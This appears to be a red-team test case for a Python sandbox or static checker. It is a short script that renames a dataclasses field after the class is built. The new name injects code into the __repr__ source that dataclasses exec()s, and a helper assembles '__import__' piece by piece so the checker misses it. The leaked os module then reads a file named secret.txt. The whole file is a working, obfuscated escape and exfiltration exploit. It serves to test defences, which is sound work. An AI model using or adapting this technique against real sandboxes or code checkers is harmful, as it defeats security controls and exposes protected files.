# family: red team, round 11 (field_object_in_list_rename)
# Variant of rt_001 (Field kept in a list, not behind a helper). A Field made by dataclasses.field() stays the same object in the processed class's fields; handed through a
# helper it no longer resolves to the dataclasses module, and no dataclasses.fields() is used, so renaming it
# is not seen. A derived dataclass pastes the renamed field into the __repr__ source it exec()s.
import dataclasses

LEAK = []


def keep(value):
    return value


SLOTS = [dataclasses.field(default=0)]


@dataclasses.dataclass
class Base:
    x: int = SLOTS[0]


def _d(word):
    u = "_"
    return u + u + word + u + u


SLOTS[0].name = "x if {LEAK.append(" + _d("import") + "('os'))} else 0"


@dataclasses.dataclass(init=False)
class Derived(Base):
    pass


def run():
    repr(Derived())
    osmod = LEAK[0]
    fd = osmod.open("/tmp/r11/work/secret.txt", osmod.O_RDONLY)
    text = osmod.read(fd, 100).decode().strip()
    osmod.close(fd)
    return type(osmod).__name__, osmod.getpid(), text


print(run())
